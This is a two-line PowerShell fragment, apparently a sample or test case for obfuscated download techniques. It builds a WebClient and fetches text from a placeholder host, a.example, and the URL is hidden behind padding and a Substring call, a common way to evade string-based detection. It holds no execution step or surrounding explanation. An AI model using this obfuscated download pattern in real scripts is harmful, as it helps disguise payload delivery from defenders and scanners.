$wc = New-Object System.Net.WebClient
$wc.DownloadString(('xxxhttp://a.example/p/x.txtyyy'.Substring(3,24)))
